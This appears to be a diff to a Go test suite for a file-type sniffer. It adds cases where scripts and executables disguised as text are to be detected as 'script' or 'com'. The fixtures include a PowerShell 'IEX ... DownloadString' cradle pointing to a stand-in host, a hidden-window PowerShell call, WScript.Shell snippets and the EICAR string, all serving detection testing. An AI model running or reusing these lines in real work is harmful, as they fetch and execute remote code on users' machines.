@@ -52,6 +52,17 @@ func TestDetect(t *testing.T) {
 		{"odt", zipOf(t, map[string]string{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}, "mimetype", "content.xml"), "odt"},
 		{"office 2003 xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>`), "msoxml"},
 		{"sylk", []byte("ID;PWXL;N;E\nC;Y1;X1;K1\nE\n"), "sylk"},
+		// Programs that sniff as text.
+		{"eicar", []byte(eicar + "\r\n"), "com"},
+		{"batch without shebang", []byte("\r\n@ECHO OFF\r\npowershell -w hidden\r\n"), "script"},
+		{"vbscript", []byte("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n"), "script"},
+		{"jscript", []byte("var s = new ActiveXObject(\"WScript.Shell\");\n"), "script"},
+		{"powershell", []byte("IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n"), "script"},
+		{"hta", []byte("<html><head><HTA:APPLICATION ID=x/><script>x</script></head></html>"), "script"},
+		{"script after 3 KiB of comments", []byte(big + "\nSet s = CreateObject(\"WScript.Shell\")\n"), "script"},
+		{"utf-16 powershell with bom", append([]byte{0xff, 0xfe}, utf16("Invoke-Expression $x")...), "script"},
+		{"prose about scripts", []byte("Please do not run attachments; our IT team will never ask you to.\n"), "text"},
+		{"csv mentioning a marker", []byte("a,b\nwscript.shell,1\n"), "csv"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -73,4 +84,12 @@ func FuzzDetect(f *testing.F) {
 			t.Fatalf("Detect returned an incomplete type %+v", got)
 		}
 	})
+}
+
+func utf16(s string) []byte {
+	var b []byte
+	for _, r := range s {
+		b = append(b, byte(r), byte(r>>8))
+	}
+	return b
 }
